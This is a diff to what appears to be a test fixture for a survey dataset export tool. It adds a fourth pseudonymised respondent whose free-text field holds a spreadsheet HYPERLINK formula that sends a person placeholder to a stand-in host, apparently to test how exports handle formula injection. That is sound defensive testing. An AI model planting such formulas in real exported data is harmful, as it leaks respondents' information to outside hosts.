@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
-from store.export import Cell, Code, Dataset, Document, Selection, Variable, VariableType
+from store.datasets import Cell, Code, Dataset, Document, Selection, Variable, VariableType
 
 ARABIC = "قال أبو عمر إنه غادر الرقة"
 EMOJI = "He smiled 🙂 and said 👨‍👩‍👧 was safe."
+FORMULA = '=HYPERLINK("http://example.invalid/?"&[PERSON 1],"Open")'
+"""A short text answer a spreadsheet would run as a formula."""
 
 
 def _document(row_id: str, body: str) -> Document:
@@ -20,7 +22,7 @@ def _document(row_id: str, body: str) -> Document:
 
 
 def sample_dataset() -> Dataset:
-    """Three respondents: coded answers with labels, a number, a string and texts."""
+    """Four respondents: coded answers with labels, a missing code, numbers, strings, texts."""
     variables = (
         Variable("respondent", "Respondent (export id)", VariableType.STRING, required=True),
         Variable(
@@ -29,6 +31,7 @@ def sample_dataset() -> Dataset:
             VariableType.INTEGER,
             ((1, "Local: Syria or Iraq"), (3, "Western country"), (99, "Prefers not to say")),
             description="Generalised from country of origin.",
+            missing_values=(99,),
         ),
         Variable(
             "motivations_2",
@@ -64,6 +67,14 @@ def sample_dataset() -> Dataset:
             "months": 2,
             "credibility_score": 1.25,
             "group_other": '[PERSON 1], a, "quoted"',
+        },
+        {
+            "respondent": "R-DDDD",
+            "region": 99,
+            "motivations_2": None,
+            "months": 0,
+            "credibility_score": -2.5,
+            "group_other": FORMULA,
         },
     )
     codes = (
